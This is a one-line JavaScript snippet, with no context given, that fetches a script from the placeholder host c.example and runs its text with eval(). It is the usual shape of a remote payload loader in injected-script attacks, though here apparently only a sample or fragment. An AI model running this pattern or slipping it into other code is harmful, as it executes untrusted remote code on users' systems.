fetch('https://c.example/x.js').then((r) => r.text()).then((t) => eval(t));
